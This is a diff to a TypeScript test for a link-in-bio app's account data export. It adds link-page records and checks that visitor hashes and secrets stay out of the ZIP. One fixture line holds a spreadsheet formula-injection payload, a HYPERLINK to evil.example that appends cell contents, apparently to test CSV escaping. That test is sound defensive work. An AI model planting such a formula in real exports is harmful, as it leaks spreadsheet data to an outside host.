@@ -7,6 +7,7 @@ import { POST as createProfile } from "@/app/api/profile/route";
 import { createShare } from "@/lib/db/shares";
 import { recordTrackEvent } from "@/lib/db/track-events";
 import { callRoute } from "../support/call-route";
+import { addLinkInBio } from "../support/link-in-bio";
 import { registerUser } from "../support/users";
 
 // "Download your data" (issue 8): a ZIP of JSON plus CSV per kind of record, safe to
@@ -33,6 +34,10 @@ const KINDS = [
   "pageEvents",
   "contactMessages",
   "newsletter",
+  "linkPage",
+  "pageLinks",
+  "utmPresets",
+  "linkEvents",
 ];
 
 async function download(headers: Record<string, string>, query = "") {
@@ -49,7 +54,7 @@ function unzip(bytes: Uint8Array) {
 
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
 
-async function userWithData(): Promise<{ user: User; username: string; shareId: string }> {
+async function userWithData(): Promise<{ user: User; username: string; shareId: string; linkId: string }> {
   const user = await registerUser({ displayName: "Export Person" });
   const username = `exp_${Date.now().toString(36)}${Math.floor(Math.random() * 1e6)}`;
   const profile = await callRoute(createProfile, {
@@ -66,7 +71,8 @@ async function userWithData(): Promise<{ user: User; username: string; shareId: 
   expect(generated.status).toBe(200);
   const share = await createShare({ userId: user.user.id, description: "-2+3", tone: "bold", bio: FORMULA });
   await recordTrackEvent({ bioId: share.id, event: "click", source: "share-page" });
-  return { user, username, shareId: share.id };
+  const { linkId } = await addLinkInBio(user.user.id, user.auth);
+  return { user, username, shareId: share.id, linkId };
 }
 
 describe("GET /api/account/export (issue 8)", () => {
@@ -77,7 +83,7 @@ describe("GET /api/account/export (issue 8)", () => {
   });
 
   it("answers a ZIP with data.json and a JSON and a CSV file per kind of record", async () => {
-    const { user, username, shareId } = await userWithData();
+    const { user, username, shareId, linkId } = await userWithData();
     const res = await download(user.auth);
     expect(res.status).toBe(200);
     expect(res.headers.get("content-type")).toBe("application/zip");
@@ -104,7 +110,19 @@ describe("GET /api/account/export (issue 8)", () => {
       expect.arrayContaining([expect.objectContaining({ bioId: shareId, event: "click" })]),
     );
 
-    // No secrets leave the server.
+    expect(data.linkPage).toMatchObject({ bio: "Fresh bread daily", theme: "dark" });
+    expect(data.pageLinks).toEqual([
+      expect.objectContaining({ id: linkId, title: "Order a loaf", url: "https://bakery.example/order" }),
+    ]);
+    expect(data.utmPresets).toEqual([expect.objectContaining({ name: "Bio link" })]);
+    expect((data.linkEvents as { kind: string; linkId: string | null }[]).map((e) => [e.kind, e.linkId])).toEqual([
+      ["view", null],
+      ["click", linkId],
+    ]);
+    expect(zip.text("csv/pageLinks.csv")).toContain("Order a loaf");
+
+    // No secrets leave the server, nor the page's visitors' hashes.
+    expect(zip.text("data.json")).not.toContain("visitorHash");
     const everything = zip.names
       .filter((n) => !n.startsWith("avatars/"))
       .map(zip.text)
